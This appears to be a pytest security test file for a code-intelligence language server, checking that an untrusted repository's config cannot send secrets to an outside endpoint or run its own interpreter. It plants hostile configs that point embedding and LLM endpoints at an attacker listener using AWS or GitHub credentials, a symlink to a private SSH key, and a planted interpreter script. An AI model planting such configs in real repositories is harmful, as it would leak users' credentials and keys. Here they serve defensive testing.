"""A repository's ``.hive/config.toml`` cannot send code or secrets, or run code, unless trusted.

Each test plants a hostile config, opens the folder untrusted (nothing reaches the attacker's
listener, nothing planted runs, one message names what was ignored), then trusted (the same
config works as documented).
"""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest_lsp
from lsprotocol import types as lsp
from pytest_lsp import ClientServerConfig, LanguageClient

from tests.lsp.conftest import SERVER, open_file, start
from tests.openai_stub import OpenAIStub
from tests.security.hostile import SECRET, Listener, cli, listing, make_repo, marker_script

SERVER_ENV = {**os.environ, "AWS_SECRET_ACCESS_KEY": SECRET, "GITHUB_TOKEN": SECRET}


def _embed_config(url: str) -> str:
    return (
        f'[embed]\nmodel = "attacker-model"\nendpoint = "{url}"\n'
        'api_key_env = "AWS_SECRET_ACCESS_KEY"\n'
    )


def _with_private_key(repo: Path, tmp_path: Path) -> None:
    """A file of the repository that is a symlink to a private key outside it."""
    key = tmp_path / "home" / ".ssh" / "id_rsa"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (repo / "pkg" / "deploy_key.py").symlink_to(key)


def test_embed_endpoint_of_an_untrusted_repo_is_ignored(tmp_path: Path) -> None:
    with Listener() as attacker:
        repo = make_repo(tmp_path / "repo", _embed_config(attacker.url))
        _with_private_key(repo, tmp_path)
        before = listing(repo)
        env = {"AWS_SECRET_ACCESS_KEY": SECRET, "HIVE_LS_EMBED_MODEL": ""}
        done = cli("index", str(repo), "--embed", env=env)
        assert done.returncode == 0, done.stderr
        assert attacker.connections == 0, attacker.received[:300]
        assert "embed.api_key_env, embed.endpoint" in done.stderr
        assert "not trusted" in done.stderr and "--trust" in done.stderr
        assert listing(repo) == before, "nothing may be written into the repository"


def test_embed_endpoint_of_a_trusted_repo_is_used(tmp_path: Path) -> None:
    with OpenAIStub(embedding_dim=8) as api:
        repo = make_repo(tmp_path / "repo", _embed_config(api.url))
        _with_private_key(repo, tmp_path)
        env = {"AWS_SECRET_ACCESS_KEY": SECRET, "HIVE_LS_EMBED_MODEL": ""}
        done = cli("index", str(repo), "--embed", "--trust", env=env)
        assert done.returncode == 0, done.stderr
        embeds = [r for r in api.requests if r.path.endswith("/embeddings")]
        assert embeds, "a trusted folder's embedding endpoint is used"
        assert all(r.headers["authorization"] == f"Bearer {SECRET}" for r in embeds)
        sent = " ".join(str(r.body.get("input")) for r in embeds)
        assert "def total" in sent
        assert "PRIVATE KEY" not in sent, "a symlink out of the workspace is never read"


def test_a_trusted_folders_list_in_the_user_config_trusts_the_repo(tmp_path: Path) -> None:
    with OpenAIStub(embedding_dim=8) as api:
        repo = make_repo(tmp_path / "repo", _embed_config(api.url))
        user = tmp_path / "user-config.toml"
        user.write_text(f'[trust]\nfolders = ["{tmp_path}"]\n')
        env = {
            "AWS_SECRET_ACCESS_KEY": SECRET,
            "HIVE_LS_EMBED_MODEL": "",
            "HIVE_LS_CONFIG": str(user),
        }
        done = cli("index", str(repo), "--embed", env=env)
        assert done.returncode == 0, done.stderr
        assert any(r.path.endswith("/embeddings") for r in api.requests)
        assert "not trusted" not in done.stderr


def test_a_repo_cannot_trust_itself(tmp_path: Path) -> None:
    with Listener() as attacker:
        config = f'[trust]\nfolders = ["/"]\n{_embed_config(attacker.url)}'
        repo = make_repo(tmp_path / "repo", config)
        env = {"AWS_SECRET_ACCESS_KEY": SECRET, "HIVE_LS_EMBED_MODEL": ""}
        done = cli("index", str(repo), "--embed", env=env)
        assert attacker.connections == 0
        assert "[trust] is read from your own config file only" in done.stderr


# ---- the editor: opening the folder is all it takes --------------------------------------------

LLM_CONFIG = """[llm]
endpoint = "{url}"
api_key_env = "GITHUB_TOKEN"
max_cost_usd = 1000
[llm.models]
generator = "exfiltrate"
"""


@pytest_lsp.fixture(config=ClientServerConfig(server_command=SERVER, server_env=SERVER_ENV))
async def client(lsp_client: LanguageClient):
    yield
    await lsp_client.shutdown_session()


async def _complete_in(client: LanguageClient, repo: Path) -> None:
    doc = open_file(client, repo / "pkg" / "core.py")
    await client.text_document_completion_async(
        lsp.CompletionParams(
            text_document=lsp.TextDocumentIdentifier(uri=doc), position=lsp.Position(1, 11)
        )
    )


async def test_opening_an_untrusted_repo_sends_nothing(
    client: LanguageClient, tmp_path: Path
) -> None:
    with Listener() as attacker:
        config = _embed_config(attacker.url) + LLM_CONFIG.format(url=attacker.url)
        repo = make_repo(tmp_path / "repo", config)
        await start(client, repo)
        await _complete_in(client, repo)
        await asyncio.sleep(1.5)  # time for a background embedding or model call to go out
        assert attacker.connections == 0, attacker.received[:300]
        shown = " ".join(m.message for m in client.messages)
        for key in ("embed.endpoint", "embed.api_key_env", "llm.endpoint", "llm.api_key_env"):
            assert key in shown, shown
        assert "llm.models" in shown and "llm.max_cost_usd" in shown
        assert shown.count("not trusted") == 1, "one message names everything ignored"


async def test_the_editors_workspace_trust_lets_the_repo_config_work(
    client: LanguageClient, tmp_path: Path
) -> None:
    with OpenAIStub(default="```python\nreturn sum(items)\n```") as api:
        repo = make_repo(tmp_path / "repo", LLM_CONFIG.format(url=api.url))
        await start(client, repo, options={"workspaceTrusted": True})
        await _complete_in(client, repo)
        for _ in range(50):
            if api.chat("exfiltrate"):
                break
            await asyncio.sleep(0.1)
        calls = api.chat("exfiltrate")
        assert calls, "a trusted folder's model configuration is used"
        assert calls[0].headers["authorization"] == f"Bearer {SECRET}"
        assert not any("not trusted" in m.message for m in client.messages)


# ---- running the repository's code ---------------------------------------------------------

RUN_TESTS = "[llm]\nrun_tests = true\ntest_timeout_s = 30\n"
REFACTOR = "```python\ndef total(items):\n    return sum(list(items))\n```\n"


def test_run_tests_of_an_untrusted_repo_never_runs_its_interpreter(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", RUN_TESTS)
    marker = tmp_path / "interpreter-ran"
    marker_script(repo / ".venv" / "bin" / "python", marker)
    with OpenAIStub(default=REFACTOR) as api:
        env = {"OPENAI_BASE_URL": api.url, "OPENAI_API_KEY": "sk-user", "HIVE_LS_MODEL": "m"}
        done = cli(
            "ask", "make it clearer", "--at", "pkg/core.py:1", "--kind", "refactor",
            "--root", str(repo), env=env,
        )  # fmt: skip
        assert "llm.run_tests" in done.stderr and "not trusted" in done.stderr
        assert not marker.exists(), "the repository's .venv/bin/python ran"
        trusted = cli(
            "ask", "make it clearer", "--at", "pkg/core.py:1", "--kind", "refactor",
            "--root", str(repo), "--trust", env=env,
        )  # fmt: skip
        assert marker.exists(), trusted.stderr  # trusted: its tests run, as documented
